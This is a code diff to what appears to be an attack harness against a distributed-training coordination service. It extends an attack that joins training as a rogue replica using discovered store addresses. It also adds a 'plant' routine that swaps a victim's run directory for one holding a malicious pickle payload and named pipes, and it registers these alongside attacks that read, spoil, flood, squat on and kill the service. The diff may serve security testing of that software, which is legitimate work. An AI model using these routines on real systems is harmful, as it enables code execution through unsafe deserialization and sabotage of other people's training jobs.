@@ -12,6 +12,7 @@ import io
 import itertools
 import json
 import os
+import pickle
 import resource
 import selectors
 import socket
@@ -23,6 +24,7 @@ import uuid
 from collections.abc import Callable, Iterable
 from datetime import timedelta
 from typing import Any
+from urllib.parse import urlsplit
 
 import http2
 import ports
@@ -143,23 +145,27 @@ def join(step: int, folder: str, seconds: float = 8.0, only: list[int] | None = 
             raise
         return True
 
-    for port in in_threads({port: lambda p=port: beat(p) for port in open_ports(only)}, 5.0):
+    doors = in_threads({port: lambda p=port: beat(p) for port in open_ports(only)}, 5.0)
+    named = {urlsplit(store["manager_addr"]).hostname or "" for store in stores.values()}
+    for port, name in itertools.product(doors, ("127.0.0.1", *named)):
         try:
-            _train(f"http://127.0.0.1:{port}", host, step, folder, seconds, found)
+            _train(f"http://127.0.0.1:{port}", (name, host), step, folder, seconds, found)
             break
         except Exception as error:
-            found["refusals"][port] = repr(error)[:300]
+            found["refusals"][f"{port} as {name}"] = repr(error)[:300]
     return found
 
 
-def _train(lighthouse: str, store: int, step: int, folder: str, seconds: float, found: dict[str, Any]) -> None:
+def _train(
+    lighthouse: str, store: tuple[str, int], step: int, folder: str, seconds: float, found: dict[str, Any]
+) -> None:
     manager = Manager(
         pg=ProcessGroupGloo(timeout=timedelta(seconds=3)),
         min_replica_size=1,
         load_state_dict=lambda state: found["received"].append(str(state)[:100]),
         state_dict=lambda: {"model": Payload(folder)},
-        store_addr="127.0.0.1",
-        store_port=store,
+        store_addr=store[0],
+        store_port=store[1],
         rank=0,
         world_size=1,
         lighthouse_addr=lighthouse,
@@ -413,12 +419,34 @@ def squat(wanted: list[int], folder: str, seconds: float) -> dict[str, object]:
     return squatter.run(seconds)
 
 
+# --- plants --------------------------------------------------------------------------------------------------------
+
+
+def plant(run: str, files: dict[str, str], folder: str, pipes: list[str]) -> list[str]:
+    """Put a run directory of our own in the place of one whose parent we may write to; what lies there then.
+
+    Args:
+        files: what is written, by its path in the run directory; "PAYLOAD" is a pickle that is no good to load.
+        pipes: the paths of named pipes.
+    """
+    if os.path.exists(run):
+        os.rename(run, f"{run}.old")
+    for name in (*files, *pipes):
+        os.makedirs(os.path.dirname(os.path.join(run, name)), mode=0o755, exist_ok=True)
+    for name, text in files.items():
+        with open(os.path.join(run, name), "wb") as file:
+            file.write(pickle.dumps(Payload(folder)) if text == "PAYLOAD" else text.encode())
+    for name in pipes:
+        os.mkfifo(os.path.join(run, name))
+    return sorted(os.listdir(run))
+
+
 ATTACKS: dict[str, Callable[..., Any]] = {
     attack.__name__: attack
-    for attack in (look, read_stores, spoil_stores, join, guess, kill, say_and_hang_up, flood, squat)
+    for attack in (look, read_stores, spoil_stores, join, guess, kill, say_and_hang_up, flood, squat, plant)
 }
 
-LIGHT = (look, kill, guess, say_and_hang_up, flood)  # these need no torch, which takes two seconds to import
+LIGHT = (look, kill, guess, say_and_hang_up, flood, plant)  # these need no torch, which takes two seconds to import
 
 if __name__ == "__main__":
     attack = ATTACKS[sys.argv[2]]
